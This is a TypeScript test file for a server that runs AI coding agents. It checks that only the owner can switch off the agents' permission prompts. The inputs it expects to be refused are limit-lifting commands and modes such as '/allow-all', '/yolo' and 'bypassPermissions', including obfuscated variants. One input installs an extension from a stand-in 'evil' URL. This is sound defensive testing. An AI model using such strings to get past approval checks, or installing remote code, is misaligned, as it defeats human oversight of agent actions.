/** Whoever may not let an agent act without asking does not get there by a mode, a setting, a slash command or a prompt. */
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
import type { AskKind, AskOption } from "../../src/core/ask.ts";
import { principal } from "../../src/core/principal.ts";
import type { CreateSession } from "../../src/protocol/commands/command-types.ts";
import { TESTER } from "../../src/testkit/tester.ts";
import { until } from "../../src/testkit/until.ts";
import { AUTOPILOT, COPILOT, DROID, GEMINI, GROK, presetAgent } from "./preset-agent.ts";
import { chat } from "./samples.ts";
import { type Answer, type Person, World } from "./world.ts";

const AGENTS = {
  copilot: presetAgent("copilot", COPILOT, { steer: true }),
  droid: presetAgent("droid", DROID),
  gemini: presetAgent("gemini", GEMINI),
  grok: presetAgent("grok", GROK),
  // As the user's own settings have it begin.
  kimi: presetAgent("kimi", { mode: "yolo" }),
  "claude-agent-acp": presetAgent("claude-agent-acp", {
    mode: "default",
    modes: ["default", "acceptEdits", "auto", "bypassPermissions"].map((id) => ({ id })),
    commands: [{ name: "deploy" }, { name: "review", description: "Review everything (project)" }],
  }),
  // Lists its commands when a test says so. Nobody has reviewed them.
  cline: presetAgent("cline", { mode: "act", commands: undefined }),
  kilo: presetAgent("kilo", { mode: "code", modes: [{ id: "ask" }, { id: "code" }] }),
  qwen: presetAgent("qwen", { mode: "auto", modes: [{ id: "default" }, { id: "auto" }, { id: "yolo" }] }),
  pi: presetAgent("pi", {}, { permissions: false }),
  "my-agent": presetAgent("my-agent", { mode: "work", modes: [{ id: "work" }, { id: "other" }] }),
};

let world: World;
let operator: Person;
let participant: Person;

beforeAll(async () => {
  world = await World.start(
    Object.fromEntries(Object.entries(AGENTS).map(([name, { adapter }]) => [name, adapter])),
  );
});

afterAll(() => world.close());

beforeEach(async () => {
  operator = await world.person("operator");
  participant = await world.person("participant");
});

function expectRefused({ status, body }: Answer, path: string, role = "owner"): void {
  expect([status, body?.code], JSON.stringify(body)).toEqual([403, "forbidden"]);
  expect(body.errors).toEqual([{ path, message: `needs the role ${role}` }]);
}

async function session(
  agent: keyof typeof AGENTS | "opencode",
  more: Partial<CreateSession> = {},
  attach = true,
) {
  const id = await world.session({ agent, options: undefined, ...more });
  if (attach) await world.server.engine.run("attachSession", { session: id }, TESTER);
  return id;
}

const asksOf = async (id: string) =>
  (await world.server.engine.run("getSession", { session: id }, TESTER)).asks;

const send = (person: Person, id: string, body: object) =>
  world.call(person, "POST", `/v1/sessions/${id}/messages`, body);

const settled = (id: string) =>
  until(async () => (await world.server.engine.run("getSession", { session: id }, TESTER)).status === "idle");

describe("an operator cannot turn asking off", () => {
  test.each([
    ["copilot", { settings: { allow_all: "on" } }, "settings.allow_all"],
    ["copilot", { mode: AUTOPILOT }, "mode"],
    ["droid", { mode: "auto-high" }, "mode"],
    ["droid", { mode: "auto-medium" }, "mode"],
    ["gemini", { mode: "yolo" }, "mode"],
    ["my-agent", { mode: "other" }, "mode"],
  ] as const)("%s: %j", async (agent, change, path) => {
    expectRefused(await world.call(operator, "POST", "/v1/sessions", { agent, ...change }), path);
    for (const attach of [false, true]) {
      const id = await session(agent, {}, attach);
      expectRefused(await world.call(operator, "PATCH", `/v1/sessions/${id}`, change), path);
    }
    expect((await world.refusals(operator)).map(({ action }) => action)).toEqual(
      Array.from({ length: 3 }, () => "session.bypass"),
    );
  });

  test("by the settings of a prompt", async () => {
    const id = await session("copilot");
    const answer = await send(operator, id, { text: "hi", settings: { allow_all: "on" } });
    expectRefused(answer, "settings.allow_all");
  });

  test.each([
    ["copilot", { settings: { allow_all: "off", reasoning_effort: "high" } }],
    ["droid", { mode: "spec" }],
    ["gemini", { mode: "autoEdit" }],
  ] as const)("but may choose another mode: %s %j", async (agent, change) => {
    const id = await session(agent);
    const answer = await world.call(operator, "PATCH", `/v1/sessions/${id}`, change);
    expect(answer.status, answer.text).toBe(200);
  });

  test("by making a session of an agent that never asks", async () => {
    expectRefused(await world.call(operator, "POST", "/v1/sessions", { agent: "pi" }), "agent");
    expectRefused(await world.call(operator, "POST", "/v1/sessions", { agent: "amp" }), "agent");
    expect((await world.call(world.owner, "POST", "/v1/sessions", { agent: "pi" })).status).toBe(201);
  });

  test("but may begin with an agent as it comes", async () => {
    for (const agent of ["copilot", "my-agent", "opencode", "goose"])
      expect((await world.call(operator, "POST", "/v1/sessions", { agent })).status).toBe(201);
  });
});

describe("an operator chooses what asks no less than the agent as it comes", () => {
  test.each([
    ["opencode", { mode: "plan" }],
    ["opencode", { permissionMode: "default" }],
    ["kilo", { mode: "code" }],
  ] as const)("%s: %j", async (agent, change) => {
    const made = await world.call(operator, "POST", "/v1/sessions", { agent, ...change });
    expect(made.status, made.text).toBe(201);
    const id = await session(agent, {}, agent === "kilo");
    const answer = await world.call(operator, "PATCH", `/v1/sessions/${id}`, change);
    expect(answer.status, answer.text).toBe(200);
  });

  test.each([
    ["opencode", { permissionMode: "bypass" }, "permissionMode"],
    ["opencode", { mode: "mine" }, "mode"],
    ["qwen", { mode: "yolo" }, "mode"],
    ["qwen", { mode: "auto" }, "mode"],
  ] as const)("but nothing else: %s %j", async (agent, change, path) => {
    const id = await session(agent, {}, agent === "qwen");
    expectRefused(await world.call(operator, "PATCH", `/v1/sessions/${id}`, change), path);
    expectRefused(await world.call(operator, "POST", "/v1/sessions", { agent, ...change }), path);
  });
});

describe("an operator who forks", () => {
  const fork = (id: string) =>
    world.server.engine.run(
      "forkSession",
      { session: id, id: world.newId() },
      principal(operator.name, "test", { token: operator.id!, name: operator.name, role: "operator" }),
    );

  test("is refused where the owner chose a mode in which the agent does not ask", async () => {
    for (const [agent, more] of [
      ["qwen", { mode: "yolo" }],
      ["qwen", { mode: "auto" }],
      ["opencode", { permissionMode: "bypass" }],
      ["claude-agent-acp", { mode: "mine" }],
      ["pi", {}],
    ] as const) {
      const id = await session(agent, more, false);
      await expect(fork(id), agent).rejects.toMatchObject({
        code: "forbidden",
        extras: { right: "session.bypass" },
      });
    }
    const id = await session("qwen");
    await world.server.engine.run("updateSession", { session: id, mode: "yolo" }, TESTER);
    await expect(fork(id)).rejects.toMatchObject({ extras: { right: "session.bypass" } });
  });

  test("may fork an agent as it comes, and the fork, whatever mode the agent reports", async () => {
    for (const agent of ["qwen", "kilo", "my-agent", "opencode"] as const) {
      const id = await session(agent, {}, agent !== "opencode");
      const copy = await fork(id);
      expect((await fork(copy.id)).forkedFrom?.session).toBe(copy.id);
    }
  });

  test("does not take over a mode that the owner switched to by answering", async () => {
    const id = await session("claude-agent-acp");
    AGENTS["claude-agent-acp"].of(id).say({ type: "session.updated", mode: "bypassPermissions" });
    await until(async () => (await asksOf(id)).asks === "no");
    expect((await fork(id)).mode).toBeUndefined();
  });
});

describe("an operator cannot turn asking off by answering an ask", () => {
  async function asked(
    agent: "claude-agent-acp" | "droid" | "grok",
    options: AskOption[],
    kind: AskKind = "plan",
  ) {
    const id = await session(agent);
    await send(world.owner, id, { text: "hang" });
    await until(
      async () => (await world.server.engine.run("getSession", { session: id }, TESTER)).status === "running",
    );
    AGENTS[agent].of(id).say({ type: "ask.opened", ask: "native", kind, title: "Go on?", options });
    await until(
      async () => (await world.server.engine.run("listAsks", { session: id }, TESTER)).asks.length === 1,
    );
    const ask = (await world.server.engine.run("listAsks", { session: id }, TESTER)).asks[0]!.ask;
    return {
      reply: (person: Person, body: object) =>
        world.call(person, "POST", `/v1/sessions/${id}/asks/${ask}/reply`, body),
      delivered: () => AGENTS[agent].of(id).commands.filter(({ type }) => type === "reply").length,
    };
  }
  const option = (id: string, effect: AskOption["effect"], more: Partial<AskOption> = {}): AskOption => ({
    ...{ id, label: id, effect },
    ...more,
  });
  const PLAN = [
    option("bypassPermissions", "always"),
    option("auto", "always"),
    option("acceptEdits", "always"),
    option("default", "once"),
    option("plan", "reject"),
  ];

  test.each(["bypassPermissions", "auto"])("a plan with %s", async (chosen) => {
    const { reply, delivered } = await asked("claude-agent-acp", PLAN);
    expectRefused(await reply(operator, { option: chosen }), "option");
    expectRefused(await reply(operator, { answers: { plan: [chosen] } }), "option");
    expect(delivered()).toBe(0);
    expect((await reply(world.owner, { option: chosen })).status).toBe(200);
  });

  test("by the answer that covers more: always", async () => {
    const { reply } = await asked("claude-agent-acp", PLAN);
    expectRefused(await reply(operator, { reply: "always" }), "option");
    expect((await reply(operator, { option: "acceptEdits" })).status).toBe(200);
  });

  test.each([
    ["droid", option("proceed_always", "always", { label: "Allow & auto-run low risk commands" })],
    ["claude-agent-acp", option("s", "always", { label: "Switch", covers: ["bypassPermissions"] })],
    ["grok", option("yolo", "always")],
  ] as const)("%s: %j", async (agent, offered) => {
    const { reply } = await asked(agent, [option("allow", "once"), offered], "permission");
    expectRefused(await reply(operator, { option: offered.id }), "option");
    expectRefused(await reply(operator, { reply: "always" }), "option");
    expect((await reply(operator, { reply: "once" })).status).toBe(200);
  });

  test("with a slash command as its words, which some agents take for a prompt", async () => {
    const { reply, delivered } = await asked("grok", [option("allow", "once")], "permission");
    expectRefused(await reply(operator, { reply: "once", message: "/always-approve" }), "message");
    expect(delivered()).toBe(0);
    expect((await reply(operator, { reply: "once", message: "Go on" })).status).toBe(200);
  });

  test("but may allow a tool or a command for good, and refuse", async () => {
    for (const chosen of [
      option("allow_always", "always", { covers: ["Bash(echo *)"] }),
      option("auto", "reject"),
    ]) {
      const { reply } = await asked("claude-agent-acp", [chosen], "permission");
      expect((await reply(operator, { option: chosen.id })).status).toBe(200);
    }
  });
});

describe("words with the answer to a question", () => {
  async function question(message: string, person: Person): Promise<{ id: string; answer: Answer }> {
    const id = await session("grok");
    await send(world.owner, id, { text: "hang" });
    await until(
      async () => (await world.server.engine.run("getSession", { session: id }, TESTER)).status === "running",
    );
    const questions = [{ id: "q1", text: "Which?", free: true }];
    const opened = { ask: "q", kind: "question", title: "Which?", questions } as const;
    AGENTS.grok.of(id).say({ type: "ask.opened", ...opened, options: [] });
    await until(
      async () => (await world.server.engine.run("listAsks", { session: id }, TESTER)).asks.length === 1,
    );
    const { ask } = (await world.server.engine.run("listAsks", { session: id }, TESTER)).asks[0]!;
    const body = { answers: { q1: ["This"] }, message };
    return { id, answer: await world.call(person, "POST", `/v1/sessions/${id}/asks/${ask}/reply`, body) };
  }

  test("are no slash command of a participant", async () => {
    expectRefused((await question("/always-approve", participant)).answer, "message");
    expect((await question("/tmp is full", participant)).answer.status).toBe(200);
  });

  test("are noted where they can change what the agent asks about", async () => {
    const { id, answer } = await question("/always-approve", world.owner);
    expect(answer.status).toBe(200);
    expect(await asksOf(id)).toMatchObject({ asks: "unknown" });
  });
});

describe("before an agent has listed its commands", () => {
  /** The agent lists its commands once it has been started for the prompt. */
  async function lateList(person: Person, text: string, commands: { name: string }[]) {
    const id = await session("cline", {}, false);
    const answer = send(person, id, { text });
    await until(() => AGENTS.cline.of(id) !== undefined);
    AGENTS.cline.of(id).say({ type: "session.updated", commands });
    return { id, answer: await answer };
  }

  test("a participant's prompt that may be an unlisted command starts the agent and waits for the list", async () => {
    const chosen = await session("claude-agent-acp", { mode: "default" }, false);
    expectRefused(await send(participant, chosen, { text: "/deploy x" }), "parts", "operator");
    const { answer } = await lateList(participant, "/deploy x", [{ name: "deploy" }]);
    expectRefused(answer, "parts", "operator");
    const yolo = await lateList(operator, "/my-yolo", [{ name: "my-yolo" }]);
    expectRefused(yolo.answer, "parts");
  });

  test.each(["/tmp is full", "/home", "/config is broken, look"])(
    "%j is a text like any other",
    async (text) => {
      for (const person of [participant, operator]) {
        const { answer } = await lateList(person, text, [{ name: "deploy" }]);
        expect(answer.status, answer.text).toBe(202);
      }
    },
  );

  test("a command that was listed while the prompt waited never reaches the agent", async () => {
    const id = await session("cline");
    const agent = AGENTS.cline.of(id);
    agent.say({ type: "session.updated", commands: [] });
    await send(world.owner, id, { text: "hang" });
    const { body, status } = await send(participant, id, { text: "/deploy x" });
    expect(status).toBe(202);
    agent.say({ type: "session.updated", commands: [{ name: "deploy" }] });
    agent.say({ type: "turn.ended", outcome: "completed" });
    const lastEnded = async () => {
      const { events } = await world.server.store.readEvents(id, 0, 100);
      return events.map(({ json }) => JSON.parse(json)).filter(({ type }) => type === "turn.ended")[1];
    };
    await until(async () => (await lastEnded()) !== undefined);
    const { messages } = await world.server.store.listMessages(id, { limit: 10 });
    expect(messages.map((message) => message.id)).toContain(body.message);
    expect(await lastEnded()).toMatchObject({
      outcome: "failed",
      error: { code: "forbidden", message: expect.stringContaining("/deploy is a command of the agent") },
    });
    expect(JSON.stringify(agent.commands)).not.toContain("/deploy");
  });

  test("a command whose list never comes needs the role operator", async () => {
    const impatient = await World.start({ cline: AGENTS.cline.adapter }, { settingsTimeoutMs: 50 });
    try {
      const id = await impatient.session({ agent: "cline", options: undefined });
      const path = `/v1/sessions/${id}/messages`;
      const by = await impatient.person("participant");
      expectRefused(await impatient.call(by, "POST", path, { text: "/deploy x" }), "parts", "operator");
      const other = await impatient.person("operator");
      expect((await impatient.call(other, "POST", path, { text: "/deploy x" })).status).toBe(202);
    } finally {
      await impatient.close();
    }
  });

  test("a harmless name that a file of the workspace has taken over needs the role operator", async () => {
    const id = await session("claude-agent-acp", { mode: "default" }, false);
    expectRefused(await send(participant, id, { text: "/review" }), "parts", "operator");
  });
});

describe("a participant cannot turn asking off by a slash command", () => {
  test.each([
    ["copilot", "/allow-all"],
    ["copilot", "  \n/ALLOW-ALL on"],
    ["copilot", "\u200b/allow-all"],
    ["copilot", "/ allow-all"],
    ["copilot", "/allow-all:on"],
    ["copilot", "/yolo"],
    ["grok", "/always-approve on"],
    ["gemini", "/extensions install https://example.com/evil"],
    ["gemini", "/extensions\tlink ./evil"],
  ] as const)("%s: %j", async (agent, text) => {
    for (const attach of [false, true]) {
      const id = await session(agent, {}, attach);
      expectRefused(await send(participant, id, { text }), "parts");
      expectRefused(await send(operator, id, { text }), "parts");
    }
    expect((await world.refusals(participant)).map(({ action }) => action)).toEqual([
      "session.bypass",
      "session.bypass",
    ]);
  });

  test("that begins a later part, or is put together from parts", async () => {
    const id = await session("copilot");
    for (const texts of [
      ["Look at this", "/allow-all"],
      ["/allow", "-all"],
    ]) {
      const parts = texts.map((text) => ({ type: "text", text }));
      expectRefused(await send(participant, id, { parts }), "parts");
    }
  });

  test("that is steered into a turn, or put into a prompt that waits", async () => {
    const id = await session("copilot");
    await send(world.owner, id, { text: "hang" });
    expectRefused(await send(participant, id, { text: "/allow-all", whenBusy: "steer" }), "parts");
    const { body } = await send(participant, id, { text: "later" });
    const path = `/v1/sessions/${id}/queue/${body.message}`;
    expectRefused(await world.call(participant, "PATCH", path, { text: "/allow-all" }), "parts");
  });

  test("through another client protocol", async () => {
    const id = await session("copilot");
    const answer = await world.call(participant, "POST", "/api/chat", chat(id, "/allow-all"));
    expect([answer.status, answer.text]).toEqual([
      403,
      expect.stringContaining("needs the role owner: /allow-all"),
    ]);
    const dialog_id = await world.dialog(id);
    const smithy = await world.call(participant, "POST", "/agentsmithy/api/chat", {
      messages: [{ role: "user", content: "/allow-all" }],
      dialog_id,
      stream: false,
    });
    expect(smithy.status, smithy.text).toBe(403);
    expect(AGENTS.copilot.of(id).commands).toEqual([]);
  });

  test("that the owner said, by saying it again", async () => {
    const id = await session("copilot");
    await send(world.owner, id, { text: "/allow-all", id: "m" });
    await settled(id);
    const by = {
      name: operator.name,
      dialect: "test",
      access: { name: operator.name, role: "operator" as const, token: "a token" },
    };
    const again = world.server.engine.run("regenerate", { session: id }, by);
    await expect(again).rejects.toMatchObject({ code: "forbidden", extras: { right: "session.bypass" } });
    const edited = world.server.engine.run(
      "edit",
      { session: id, id: "m", parts: [{ type: "text", text: "/yolo" }] },
      by,
    );
    await expect(edited).rejects.toMatchObject({ code: "forbidden", extras: { right: "session.bypass" } });
    expect((await world.server.store.getMessage(id, "m"))?.rewoundAt).toBeUndefined();
  });

  test("but may give a harmless one, and say what only looks like one", async () => {
    const id = await session("copilot");
    for (const text of [
      "/compact",
      "/etc/passwd is what?",
      "/nothing of the agent's",
      "what does /allow-all do?",
    ]) {
      expect((await send(participant, id, { text })).status, text).toBe(202);
      await settled(id);
    }
    expectRefused(await send(participant, id, { text: "/share" }), "parts", "operator");
    expect((await send(operator, id, { text: "/share" })).status).toBe(202);
  });

  test.each(["/compact", "/etc/passwd is what?", "what does /allow-all do?"])(
    "but may say %j to an agent that was not started",
    async (text) => {
      const id = await session("copilot", {}, false);
      const { status, text: answer } = await send(participant, id, { text });
      expect(status, answer).toBe(202);
    },
  );
});

describe("a participant cannot lead an agent that does not ask", () => {
  test.each([
    ["copilot", { settings: { allow_all: "on" } }, "settings.allow_all"],
    ["gemini", { mode: "yolo" }, "mode"],
    ["my-agent", {}, "mode"],
  ] as const)("%s with %j", async (agent, more, path) => {
    const id = await session(agent, more);
    expectRefused(await send(participant, id, { text: "hi" }), path, "operator");
    expect((await world.refusals(participant)).map(({ action }) => action)).toEqual(["session.unasked"]);
    expect((await send(operator, id, { text: "hi" })).status).toBe(202);
  });

  test("after the agent has switched by itself", async () => {
    const id = await session("gemini");
    expect((await send(participant, id, { text: "hi" })).status).toBe(202);
    await settled(id);
    AGENTS.gemini.of(id).say({ type: "session.updated", mode: "yolo" });
    await until(async () => (await asksOf(id)).asks === "no");
    expectRefused(await send(participant, id, { text: "hi" }), "mode", "operator");
    AGENTS.gemini.of(id).say({ type: "session.updated", mode: "default" });
    await until(async () => (await asksOf(id)).asks === "yes");
    expect((await send(participant, id, { text: "hi" })).status).toBe(202);
  });

  test("after the owner gave a command of which the agent tells nothing", async () => {
    const id = await session("grok");
    expect((await send(participant, id, { text: "hi" })).status).toBe(202);
    await send(world.owner, id, { text: "/always-approve on" });
    await settled(id);
    expect((await asksOf(id)).asks).toBe("unknown");
    expect((await send(participant, id, { text: "hi" })).status).toBe(403);
  });

  test("that begins like that because of the user's own settings", async () => {
    const id = await session("kimi", {}, false);
    expectRefused(await send(participant, id, { text: "hi" }), "mode", "operator");
    expect(AGENTS.kimi.of(id).commands.filter(({ type }) => type === "prompt")).toEqual([]);
  });
});
